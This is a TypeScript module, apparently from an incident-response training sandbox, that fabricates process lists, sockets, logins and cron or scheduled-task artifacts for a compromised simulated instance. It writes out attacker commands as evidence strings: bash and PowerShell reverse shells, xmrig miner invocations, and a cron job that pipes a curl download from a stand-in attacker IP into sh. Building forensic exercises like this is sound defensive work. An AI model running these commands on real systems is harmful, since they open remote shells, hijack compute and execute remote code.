// What the simulated instance answers to the volatile-data documents: processes, sockets, users, logins, modules, scheduled tasks.
import { createHash } from 'node:crypto';
import type { InstanceState, RegionState } from './scenario';

/** The artifacts a volatile-data document uploads, in the order of its parameters (infra/documents/Custody-*VolatileData.json). */
export const VOLATILE_ARTIFACTS = [
  'processes.txt',
  'sockets.txt',
  'users.txt',
  'logins.txt',
  'modules.txt',
  'scheduled-tasks.txt',
] as const;
export type VolatileArtifact = (typeof VOLATILE_ARTIFACTS)[number];

/** A stable fake SHA-256 of an executable, so the same binary hashes alike across runs. */
function exeHash(path: string): string {
  return createHash('sha256').update(`sandbox-binary:${path}`).digest('hex');
}

interface Proc {
  readonly pid: number;
  readonly ppid: number;
  readonly user: string;
  readonly exe: string;
  readonly args: string;
}

function linuxProcesses(outbound: Array<{ remoteIp: string; remotePort: number }>): Proc[] {
  const procs: Proc[] = [
    {
      pid: 1,
      ppid: 0,
      user: 'root',
      exe: '/usr/lib/systemd/systemd',
      args: '/usr/lib/systemd/systemd --switched-root --system',
    },
    {
      pid: 812,
      ppid: 1,
      user: 'root',
      exe: '/usr/sbin/sshd',
      args: 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups',
    },
    { pid: 901, ppid: 1, user: 'root', exe: '/usr/bin/amazon-ssm-agent', args: '/usr/bin/amazon-ssm-agent' },
    { pid: 1120, ppid: 1, user: 'root', exe: '/usr/sbin/nginx', args: 'nginx: master process /usr/sbin/nginx' },
    { pid: 1121, ppid: 1120, user: 'nginx', exe: '/usr/sbin/nginx', args: 'nginx: worker process' },
  ];
  const pool = outbound.find((flow) => flow.remotePort === 3333);
  if (pool) {
    procs.push({
      pid: 4242,
      ppid: 1,
      user: 'nginx',
      exe: '/tmp/.X11-unix/xmrig (deleted)',
      args: `/tmp/.X11-unix/xmrig -o ${pool.remoteIp}:${pool.remotePort} -u 44AFFq5kSiGBoZ --donate-level 1 -B`,
    });
  }
  const shell = outbound.find((flow) => flow.remotePort === 4444);
  if (shell) {
    procs.push({
      pid: 5150,
      ppid: 1121,
      user: 'nginx',
      exe: '/usr/bin/bash',
      args: `bash -c bash -i >& /dev/tcp/${shell.remoteIp}/${shell.remotePort} 0>&1`,
    });
  }
  return procs;
}

function windowsProcesses(outbound: Array<{ remoteIp: string; remotePort: number }>): Proc[] {
  const procs: Proc[] = [
    { pid: 4, ppid: 0, user: 'SYSTEM', exe: 'System', args: '' },
    {
      pid: 672,
      ppid: 4,
      user: 'SYSTEM',
      exe: 'C:\\Windows\\System32\\services.exe',
      args: 'C:\\Windows\\system32\\services.exe',
    },
    {
      pid: 1380,
      ppid: 672,
      user: 'SYSTEM',
      exe: 'C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe',
      args: '"C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe"',
    },
  ];
  const pool = outbound.find((flow) => flow.remotePort === 3333);
  if (pool)
    procs.push({
      pid: 6612,
      ppid: 672,
      user: 'SYSTEM',
      exe: 'C:\\ProgramData\\svchost\\xmrig.exe',
      args: `C:\\ProgramData\\svchost\\xmrig.exe -o ${pool.remoteIp}:${pool.remotePort} --background`,
    });
  const shell = outbound.find((flow) => flow.remotePort === 4444);
  if (shell)
    procs.push({
      pid: 7020,
      ppid: 672,
      user: 'files-1\\svc-backup',
      exe: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      args: `powershell -nop -w hidden -c "$c=New-Object Net.Sockets.TCPClient('${shell.remoteIp}',${shell.remotePort})"`,
    });
  return procs;
}

/** The scenario's story seen from inside the instance: its open flows become sockets and the processes that hold them. */
export function volatileData(instance: InstanceState, region: RegionState): Record<VolatileArtifact, string> {
  const enis = new Set(instance.networkInterfaces.map((eni) => eni.networkInterfaceId));
  const flows = region.flows.filter((flow) => enis.has(flow.networkInterfaceId) && flow.open);
  const outbound = flows.filter((flow) => flow.direction === 'outbound');
  const ip = instance.networkInterfaces[0]?.privateIpAddress ?? '0.0.0.0';
  const windows = instance.platform === 'windows';
  const procs = windows ? windowsProcesses(outbound) : linuxProcesses(outbound);
  const owner = (port: number) =>
    port === 3333 ? procs.find((p) => p.args.includes('xmrig')) : procs.find((p) => p.args.includes(`${port}`));
  const processes = procs.map(
    (p) => `${p.pid}\t${p.ppid}\t${p.user}\t${p.exe.startsWith('System') ? '-' : exeHash(p.exe)}\t${p.exe}\t${p.args}`,
  );
  const sockets = [
    windows ? `tcp\tLISTEN\t0.0.0.0:3389\t0.0.0.0:*\t672` : `tcp\tLISTEN\t0.0.0.0:22\t0.0.0.0:*\t812`,
    windows ? `tcp\tLISTEN\t0.0.0.0:445\t0.0.0.0:*\t4` : `tcp\tLISTEN\t0.0.0.0:80\t0.0.0.0:*\t1120`,
    ...flows.map(
      (flow) =>
        `${flow.protocol}\tESTABLISHED\t${ip}:${flow.localPort}\t${flow.remoteIp}:${flow.remotePort}\t${owner(flow.remotePort)?.pid ?? '-'}`,
    ),
  ];
  const attacker = outbound.find((flow) => flow.remotePort === 4444)?.remoteIp ?? '198.51.100.23';
  return {
    'processes.txt': `# pid\tppid\tuser\texe_sha256\texe\tcommand_line\n${processes.join('\n')}\n`,
    'sockets.txt': `# proto\tstate\tlocal\tremote\tpid\n${sockets.join('\n')}\n`,
    'users.txt': windows
      ? `USERNAME\tSESSION\tSTATE\tLOGON TIME\nsvc-backup\trdp-tcp#3\tActive\t2026-11-27 21:50\n`
      : `ec2-user\tpts/0\t2026-11-27 21:49\t(${attacker})\n`,
    'logins.txt': windows
      ? `TimeCreated\tEventId\tAccount\tLogonType\tSource\n2026-11-27T21:50:12Z\t4624\tsvc-backup\t10\t${attacker}\n2026-11-27T21:49:58Z\t4625\tAdministrator\t10\t${attacker}\n`
      : `ec2-user pts/0 ${attacker} Fri Nov 27 21:49:31 2026 still logged in\nreboot system boot 6.1.112 Fri Nov 20 07:13:02 2026 still running\n`,
    'modules.txt': windows
      ? `Module\tPath\nntoskrnl\tC:\\Windows\\system32\\ntoskrnl.exe\nWinRing0x64\tC:\\ProgramData\\svchost\\WinRing0x64.sys\n`
      : `ena 143360 0 - Live 0x0000000000000000\nnvme 57344 2 - Live 0x0000000000000000\nmsr 16384 0 - Live 0x0000000000000000\n`,
    'scheduled-tasks.txt': windows
      ? `TaskName\tAction\n\\Microsoft\\Windows\\Update\\svchost-update\tC:\\ProgramData\\svchost\\xmrig.exe --background\n`
      : `# /var/spool/cron/nginx\n@reboot /tmp/.X11-unix/xmrig -o pool.minexmr.example:3333 -B\n*/5 * * * * curl -fsS http://${attacker}/k.sh | sh\n`,
  };
}
